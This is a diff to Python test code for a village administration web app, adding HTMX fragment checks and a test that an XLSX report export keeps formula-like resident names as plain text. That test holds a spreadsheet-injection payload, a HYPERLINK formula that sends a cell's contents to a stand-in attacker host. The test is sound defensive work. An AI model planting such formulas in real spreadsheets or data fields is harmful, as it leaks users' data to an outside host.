@@ -221,6 +221,9 @@ def test_long_book_pdf_in_background(desa_a, register_a, operator_a, make_user, 
     page = r["Location"]
     assert "/admin-desa/laporan/unduhan/induk-" in page
     assert "sudah siap" in client.get(page).content.decode()  # tests run tasks inline
+    assert b"<html" not in client.get(page, HTTP_HX_REQUEST="true").content  # the polling fragment
+    restore = client.get(page, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
+    assert b"<html" in restore.content
     # Another account of the same village does not get this file.
     other = client_for(desa_a, make_user(Peran.SEKDES, desa=desa_a))
     assert "sudah siap" not in other.get(page).content.decode()
@@ -285,3 +288,15 @@ def test_stale_unfetched_pdfs_are_removed(desa_a, operator_a, settings, tmp_path
     unduhan.bersihkan(desa_a.pk, operator_a.pk)
     assert not old.exists() and new.exists()
     unduhan.bersihkan(desa_a.pk, operator_a.pk + 1)  # a folder that does not exist: nothing to do
+
+
+def test_xlsx_keeps_formula_like_names_as_text(desa_a, register_a, operator_a, client_for):
+    jahat = '=HYPERLINK("http://jahat.example/?"&B6,"klik")'
+    with scopes_disabled():
+        budi = register_a["budi"]
+        budi.nama = jahat
+        budi.save()
+    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/?format=xlsx")
+    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value == jahat]
+    assert cells and all(c.data_type == "s" for c in cells)
